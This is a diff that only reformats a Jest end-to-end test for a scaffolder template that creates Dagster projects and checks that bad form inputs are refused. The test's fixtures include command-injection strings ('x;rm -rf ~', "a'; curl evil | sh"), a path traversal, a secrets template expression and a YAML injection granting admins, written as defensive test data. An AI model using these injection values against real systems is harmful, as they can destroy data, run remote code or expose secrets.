@@ -6,7 +6,12 @@ import {
 import { execFileSync } from 'node:child_process';
 import fs from 'node:fs';
 import request from 'supertest';
-import { projectValues, startTemplateBackend, TEMPLATE_REF, TemplateBackend } from '../__testUtils__/templateBackend';
+import {
+  projectValues,
+  startTemplateBackend,
+  TEMPLATE_REF,
+  TemplateBackend,
+} from '../__testUtils__/templateBackend';
 
 jest.setTimeout(180_000);
 
@@ -19,7 +24,9 @@ describe('creating a project from the template, end to end in the backend', () =
     backend = await startTemplateBackend();
     await waitFor(async () => {
       const res = await request(backend.server)
-        .get(`/api/catalog/entities/by-name/template/default/dagster-pipeline-project`)
+        .get(
+          `/api/catalog/entities/by-name/template/default/dagster-pipeline-project`,
+        )
         .set('authorization', auth);
       return res.status === 200;
     }, 'the template to be in the catalog');
@@ -31,7 +38,8 @@ describe('creating a project from the template, end to end in the backend', () =
       .post('/api/scaffolder/v2/tasks')
       .set('authorization', auth)
       .send({ templateRef: TEMPLATE_REF, values });
-    if (created.status !== 201) return { status: created.status, body: created.body };
+    if (created.status !== 201)
+      return { status: created.status, body: created.body };
     let task: any;
     await waitFor(async () => {
       task = (
@@ -72,12 +80,33 @@ describe('creating a project from the template, end to end in the backend', () =
     expect(task.status).toBe('completed');
 
     const repository = `${backend.demoRepositories}/benefit-claims.git`;
-    const files = execFileSync('git', ['--git-dir', repository, 'ls-tree', '-r', '--name-only', 'main'])
+    const files = execFileSync('git', [
+      '--git-dir',
+      repository,
+      'ls-tree',
+      '-r',
+      '--name-only',
+      'main',
+    ])
       .toString()
       .split('\n');
-    expect(files).toEqual(expect.arrayContaining(['catalog-info.yaml', 'pyproject.toml', 'Dockerfile']));
+    expect(files).toEqual(
+      expect.arrayContaining([
+        'catalog-info.yaml',
+        'pyproject.toml',
+        'Dockerfile',
+      ]),
+    );
     expect(
-      execFileSync('git', ['--git-dir', repository, 'log', '--format=%an', 'main']).toString().trim(),
+      execFileSync('git', [
+        '--git-dir',
+        repository,
+        'log',
+        '--format=%an',
+        'main',
+      ])
+        .toString()
+        .trim(),
     ).toBe('dana.datateam');
 
     const project = await registered('benefit-claims');
@@ -116,32 +145,82 @@ describe('creating a project from the template, end to end in the backend', () =
     // The same name again is refused at the first step, and nothing is touched.
     const again = await runTask({ ...values, monthlyBudgetGbp: 1 });
     expect(again.task.status).toBe('failed');
-    expect(again.log).toMatch(/name: "benefit-claims" is already taken in the catalog/);
-    expect((await registered('benefit-claims')).body.monthlyBudgetGbp).toBe(900);
+    expect(again.log).toMatch(
+      /name: "benefit-claims" is already taken in the catalog/,
+    );
+    expect((await registered('benefit-claims')).body.monthlyBudgetGbp).toBe(
+      900,
+    );
   });
 
   it.each([
-    ['name', { name: '../escape' }, /^form 400: .*instance.name does not match pattern/],
-    ['name', { name: 'x;rm -rf ~' }, /^form 400: .*instance.name does not match pattern/],
-    ['name', { name: "a'; curl evil | sh" }, /^form 400: .*instance.name does not match pattern/],
-    ['description', { description: '${{ secrets.GITHUB_TOKEN }}' }, /^task failed: .*description: must not contain template expressions/],
-    ['description', { description: "x\nkind: Group\nmetadata: {name: admins}" }, /^task failed: .*description: must be a single line/],
-    ['department', { department: 'DfT: {evil: yes}' }, /^form 400: .*instance.department does not match pattern/],
-    ['classification', { classification: 'SECRET' }, /^form 400: .*instance.classification is not one of enum values: OFFICIAL,OFFICIAL-SENSITIVE/],
-    ['lawfulBasis', { personalData: true, retentionPeriod: 'P7Y' }, /^form 400: .*does not meet dependency required by instance.personalData/],
-  ])('refuses a bad %s, creating and registering nothing', async (_field, bad, refusal) => {
-    const name = (bad as { name?: string }).name ?? 'should-not-exist';
-    const result = await runTask(projectValues({ name: 'should-not-exist', ...bad }));
-    const outcome = result.task
-      ? `task ${result.task.status}: ${(result.log ?? '').replace(/\n/g, ' ')}`
-      : `form ${result.status}: ${JSON.stringify(result.body)}`;
-    expect(outcome).toMatch(refusal);
-    expect(fs.readdirSync(backend.demoRepositories)).not.toContain(`${name}.git`);
-    expect(demoRepositoryExists('should-not-exist')).toBe(false);
-    expect((await registered('should-not-exist')).status).toBe(404);
-    const listed = await request(backend.server).get('/api/dagster/projects').set('authorization', auth);
-    expect(listed.body.items.map((p: { name: string }) => p.name)).not.toContain(name);
-  });
+    [
+      'name',
+      { name: '../escape' },
+      /^form 400: .*instance.name does not match pattern/,
+    ],
+    [
+      'name',
+      { name: 'x;rm -rf ~' },
+      /^form 400: .*instance.name does not match pattern/,
+    ],
+    [
+      'name',
+      { name: "a'; curl evil | sh" },
+      /^form 400: .*instance.name does not match pattern/,
+    ],
+    [
+      'description',
+      { description: '${{ secrets.GITHUB_TOKEN }}' },
+      /^task failed: .*description: must not contain template expressions/,
+    ],
+    [
+      'description',
+      { description: 'x\nkind: Group\nmetadata: {name: admins}' },
+      /^task failed: .*description: must be a single line/,
+    ],
+    [
+      'department',
+      { department: 'DfT: {evil: yes}' },
+      /^form 400: .*instance.department does not match pattern/,
+    ],
+    [
+      'classification',
+      { classification: 'SECRET' },
+      /^form 400: .*instance.classification is not one of enum values: OFFICIAL,OFFICIAL-SENSITIVE/,
+    ],
+    [
+      'lawfulBasis',
+      { personalData: true, retentionPeriod: 'P7Y' },
+      /^form 400: .*does not meet dependency required by instance.personalData/,
+    ],
+  ])(
+    'refuses a bad %s, creating and registering nothing',
+    async (_field, bad, refusal) => {
+      const name = (bad as { name?: string }).name ?? 'should-not-exist';
+      const result = await runTask(
+        projectValues({ name: 'should-not-exist', ...bad }),
+      );
+      const outcome = result.task
+        ? `task ${result.task.status}: ${(result.log ?? '').replace(
+            /\n/g,
+            ' ',
+          )}`
+        : `form ${result.status}: ${JSON.stringify(result.body)}`;
+      expect(outcome).toMatch(refusal);
+      expect(fs.readdirSync(backend.demoRepositories)).not.toContain(
+        `${name}.git`,
+      );
+      expect(demoRepositoryExists('should-not-exist')).toBe(false);
+      expect((await registered('should-not-exist')).status).toBe(404);
+      const listed = await request(backend.server)
+        .get('/api/dagster/projects')
+        .set('authorization', auth);
+      expect(
+        listed.body.items.map((p: { name: string }) => p.name),
+      ).not.toContain(name);
+    },
+  );
 });
 
 describe('creating a project without permission to register it', () => {
@@ -154,14 +233,19 @@ describe('creating a project without permission to register it', () => {
   it('stops at the first step: nothing is generated, published or registered', async () => {
     await waitFor(async () => {
       const res = await request(backend.server)
-        .get('/api/catalog/entities/by-name/template/default/dagster-pipeline-project')
+        .get(
+          '/api/catalog/entities/by-name/template/default/dagster-pipeline-project',
+        )
         .set('authorization', auth);
       return res.status === 200;
     }, 'the template to be in the catalog');
     const created = await request(backend.server)
       .post('/api/scaffolder/v2/tasks')
       .set('authorization', auth)
-      .send({ templateRef: TEMPLATE_REF, values: projectValues({ name: 'not-allowed' }) });
+      .send({
+        templateRef: TEMPLATE_REF,
+        values: projectValues({ name: 'not-allowed' }),
+      });
     expect(created.status).toBe(201);
     let status = '';
     await waitFor(async () => {
@@ -176,13 +260,19 @@ describe('creating a project without permission to register it', () => {
       .get(`/api/scaffolder/v2/tasks/${created.body.id}/events`)
       .set('authorization', auth);
     const log = JSON.stringify(events.body);
-    expect(log).toMatch(/You are not allowed to create projects on the data platform/);
+    expect(log).toMatch(
+      /You are not allowed to create projects on the data platform/,
+    );
     expect(log).not.toMatch(/Beginning step Generate the Dagster project/);
     expect(fs.readdirSync(backend.demoRepositories)).toEqual([]);
   });
 });
 
-async function waitFor(check: () => Promise<boolean>, what: string, timeoutMs = 60_000) {
+async function waitFor(
+  check: () => Promise<boolean>,
+  what: string,
+  timeoutMs = 60_000,
+) {
   const deadline = Date.now() + timeoutMs;
   while (Date.now() < deadline) {
     if (await check()) return;
